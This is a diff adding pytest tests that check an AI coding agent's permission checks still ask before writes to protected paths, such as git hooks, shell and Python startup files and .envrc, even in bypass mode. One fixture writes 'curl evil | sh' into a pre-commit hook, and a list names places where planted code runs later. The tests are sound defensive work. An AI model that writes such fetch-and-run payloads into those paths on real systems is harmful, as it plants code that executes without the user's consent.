@@ -292,3 +292,83 @@ async def test_allow_always_without_a_policy_answers_only_that_request():
     assert not asks[1].done()
     broker.pending[0].deny()
     assert (await asyncio.wait_for(asks[1], 2)).interrupt
+
+
+# --- safety paths (findings 8.2 and 8.6) ---------------------------------------------------
+
+async def test_a_rule_whose_text_merely_contains_a_safety_name_does_not_release_it(ws):
+    (ws / "me.github.io" / ".git" / "hooks").mkdir(parents=True)
+    ctx = ctx_for(ws)
+    ctx.permissions.add_session_rules(["Edit(me.github.io/**)"])  # "Always allow" on an edit there
+    hook = {"file_path": "me.github.io/.git/hooks/pre-commit", "content": "curl evil | sh"}
+    ask = await decide(ctx, Write(), hook)
+    assert isinstance(ask, PermissionAsk) and "protected path" in ask.message
+    ctx = ctx_for(ws, "bypassPermissions", allow=["Edit(docs.github/**)"])
+    ask = await decide(ctx, Write(), {"file_path": "docs.github/.git/config", "content": "x"})
+    assert isinstance(ask, PermissionAsk) and "protected path" in ask.message
+    # A rule that names the place component by component still releases it.
+    ctx = ctx_for(ws, allow=["Write(me.github.io/.git/hooks/**)"])
+    assert isinstance(await decide(ctx, Write(), hook), PermissionAllow)
+
+
+@pytest.fixture
+def home(tmp_path, monkeypatch) -> Path:
+    folder = Path(os.path.realpath(tmp_path)) / "home"
+    folder.mkdir()
+    monkeypatch.setenv("HOME", str(folder))
+    return folder
+
+
+SAFETY_PATHS = ["~/.bash_aliases", "~/.config/git/config", "~/.config/fish/functions/ls.fish",
+                "~/.local/lib/python3.11/site-packages/usercustomize.py", "proj/sitecustomize.py",
+                "~/.local/lib/python3.11/site-packages/evil.pth", "~/.local/bin/python", "~/bin/ls",
+                "bare.git/hooks/post-receive", "bare.git/config", ".husky/pre-commit", ".envrc",
+                "sub/.githooks/pre-push", ".hg/hgrc"]
+
+
+@pytest.mark.parametrize("path", SAFETY_PATHS)
+async def test_places_that_change_what_runs_next_ask_even_in_bypass(ws, home, path):
+    bare = ws / "bare.git"
+    for name in ("objects", "refs", "hooks"):
+        (bare / name).mkdir(parents=True)
+    (bare / "HEAD").write_text("ref: refs/heads/main\n")
+    ctx = ctx_for(ws, "bypassPermissions", allow=["Edit(./**)", "Edit(~/**)"])
+    ask = await decide(ctx, Write(), {"file_path": path, "content": "evil"})
+    assert isinstance(ask, PermissionAsk) and "protected path" in ask.message, path
+    # Ordinary files beside them do not ask.
+    assert isinstance(await decide(ctx, Write(), {"file_path": "~/notes.txt", "content": "x"}), PermissionAllow)
+    assert isinstance(await decide(ctx, Write(), {"file_path": "bare.txt", "content": "x"}), PermissionAllow)
+
+
+async def test_safety_names_ignore_case_where_the_file_system_does(ws, monkeypatch):
+    from jupyter_agent import safety
+
+    ctx = ctx_for(ws, "bypassPermissions")
+    write = {"file_path": ".GIT/hooks/pre-commit", "content": "x"}
+    monkeypatch.setattr(safety, "CASE_INSENSITIVE", True)
+    assert isinstance(await decide(ctx, Write(), write), PermissionAsk)
+    monkeypatch.setattr(safety, "CASE_INSENSITIVE", False)  # Linux: .GIT is another folder
+    assert isinstance(await decide(ctx, Write(), write), PermissionAllow)
+
+
+async def test_write_rules_cover_edit_too(ws):
+    (ws / "pyproject.toml").write_text("[project]\n")
+    edit = {"file_path": "pyproject.toml", "old_string": "[project]", "new_string": "[tool]"}
+    for rules, expected in (({"ask": ["Write(**/*.toml)"]}, PermissionAsk),
+                            ({"deny": ["Write(pyproject.toml)"]}, PermissionDeny),
+                            ({"deny": ["NotebookEdit(pyproject.toml)"]}, PermissionDeny)):
+        ctx = ctx_for(ws, "acceptEdits", **rules)
+        read_file(ctx, ws / "pyproject.toml")
+        assert isinstance(await decide(ctx, Edit(), edit), expected), rules
+    ctx = ctx_for(ws, deny=["Grep(src/**)"])  # the Read family stays one-way: a Grep rule is about Grep
+    assert isinstance(await decide(ctx, Read(), {"file_path": "src/a.py"}), PermissionAllow)
+
+
+async def test_notebook_run_asks_in_every_mode_unless_a_rule_allows_it(ws):
+    run = {"notebook_path": "n.ipynb", "cell_id": "c1"}
+    for mode in ("default", "acceptEdits", "bypassPermissions"):
+        ask = await decide(ctx_for(ws, mode), NotebookRun(), run)
+        assert isinstance(ask, PermissionAsk) and "Running code always asks" in ask.message, mode
+    allowed = ctx_for(ws, "bypassPermissions", allow=["NotebookRun(n.ipynb)"])
+    assert isinstance(await decide(allowed, NotebookRun(), run), PermissionAllow)
+    assert isinstance(await decide(ctx_for(ws, "plan"), NotebookRun(), run), PermissionDeny)
